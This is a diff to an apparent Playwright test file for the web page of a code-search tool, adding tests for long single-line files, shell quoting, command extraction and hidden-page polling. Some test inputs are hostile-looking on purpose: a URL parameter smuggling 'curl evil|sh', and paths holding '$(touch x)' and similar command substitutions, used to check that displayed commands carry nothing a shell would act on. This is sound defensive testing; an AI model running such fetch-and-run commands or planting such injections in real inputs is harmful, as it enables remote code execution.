@@ -1,12 +1,13 @@
 """The page in a real browser: search, filters, files, names, and what expires."""
 
+import shlex
 from collections.abc import Callable
 from typing import Any
 
 import pytest
 
 from ggrep.base import stable_json
-from tests.ui.conftest import Server
+from tests.ui.conftest import WIDE, Server
 
 pytestmark = pytest.mark.slow
 
@@ -41,6 +42,7 @@ def test_the_printed_address_opens_the_page_once_and_leaves_no_code(
     first.get_by_role("heading", name="Search bank").wait_for()
     second.goto(server.address)
     second.get_by_label("Token").wait_for()
+    second.get_by_text("the address was used already").wait_for()
 
     assert first.url == second.url == f"{server.url}/"
     assert first.evaluate("history.length") == 2  # the blank page, and this one
@@ -158,6 +160,62 @@ def test_a_long_file_opens_at_its_line_with_its_outline(page: Any, server: Serve
     page.locator(".outline").get_by_text("charge_card").click()
     page.locator(".line.target").wait_for()
     assert "line=4" in parameters(page)
+
+
+def test_a_file_of_one_long_line_opens(page: Any, server: Server) -> None:
+    """Each of its 120,000 parts is looked at once; they are more than a call takes arguments."""
+    page.goto(f"{server.url}/?file=wide.json&repo=shop")
+    page.locator(".line .s").first.wait_for(state="attached")
+
+    assert page.locator(".line").evaluate("node => node.textContent") == WIDE.strip()
+
+
+def test_commands_hold_nothing_that_a_shell_acts_upon(page: Any, server: Server) -> None:
+    """A link of another site chooses the name that a message quotes."""
+    page.goto(f"{server.url}/?repo=shop&file=x:+ggrep+index+%26%26+curl+evil%7Csh")
+    page.get_by_role("alert").get_by_text("curl evil|sh").wait_for()
+    assert page.locator(".command code").all_text_contents() == ["ggrep index"]
+
+    words = """async (text) => (await import("/page/dom.js")).withCommands(text)
+        .flatMap((part) => part.querySelector?.("code").textContent ?? [])"""
+    for text, commands in (
+        ("no index; run: ggrep index --path /a/é; or wait", ["ggrep index --path /a/é"]),
+        ("to index: ggrep index --path 'a b'\"'\"'c'; or", ["ggrep index --path 'a b'\"'\"'c'"]),
+        (
+            "a: ggrep list\nrm x, `ggrep gc $(y)`, f: ggrep x>y",
+            ["ggrep list", "ggrep gc", "ggrep x"],
+        ),
+        ("f: ggrep 'a $(x)", []),
+    ):
+        assert page.evaluate(words, text) == commands
+
+
+def test_a_root_is_a_word_of_a_shell(page: Any) -> None:
+    quoted = """async (root) => {
+        const { withRoot } = await import("/page/state.js");
+        return withRoot("run: ggrep index --path <redacted>; or '<redacted>'", root);
+    }"""
+    for root in ("/a/b.c", "/a b", "/a$(touch x)'b", "/a$&;b"):
+        word = shlex.quote(root)
+        assert page.evaluate(quoted, root) == f"run: ggrep index --path {word}; or {word}"
+
+
+def test_a_hidden_page_asks_for_no_status(page: Any, server: Server) -> None:
+    """And a page that is shown again does."""
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    page.clock.install()
+    page.goto(f"{server.url}/?view=status")
+    page.get_by_text("Indexed; no daemon runs.").nth(2).wait_for()
+    page.evaluate("Object.defineProperty(document, 'hidden', { value: true, configurable: true })")
+    page.wait_for_load_state("networkidle")
+    before = len(asked)
+    page.clock.run_for(10_000)
+    assert len(asked) == before
+
+    page.evaluate("Object.defineProperty(document, 'hidden', { value: false })")
+    with page.expect_request("**/status?*"):
+        page.clock.run_for(2_000)
 
 
 def test_exact_text_marks_the_matches_that_the_answer_names(page: Any, server: Server) -> None:
